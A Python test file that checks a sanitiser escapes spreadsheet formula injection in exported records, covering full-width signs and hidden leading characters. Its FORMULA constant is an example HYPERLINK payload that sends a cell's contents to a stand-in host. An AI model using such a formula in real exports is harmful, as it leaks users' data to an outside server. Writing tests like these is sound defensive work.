"""Goal: a line that was kept aside does nothing to whoever opens the download in a spreadsheet.

Method: lines that begin as formulas do, in every width and behind whatever is not seen.
"""

import pytest

from backend.record.api.faults import harmless

FORMULA = 'HYPERLINK("http://x.example/?"&A1,"1")'


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠", "−"])
@pytest.mark.parametrize("before", ["", " ", "\t", "\r", "\u3000", "\ufeff", "\x00", "\u200b "])
def test_what_a_spreadsheet_would_work_out_is_a_text(before: str, sign: str) -> None:
    content = f"{before}{sign}{FORMULA}"
    assert harmless(content) == f"'{content}"


@pytest.mark.parametrize("content", ["", "11010519491231002X,r-1,1", '"=1",x', "'=1", "{", "a=1"])
def test_any_other_line_stays_as_it_was_handed_in(content: str) -> None:
    assert harmless(content) == content


@pytest.mark.parametrize("before", ["\t", "\r", "\n"])
def test_what_begins_a_cell_anew_is_a_text(before: str) -> None:
    """OWASP names tab, CR and LF by themselves."""
    assert harmless(f"{before}x") == f"'{before}x"
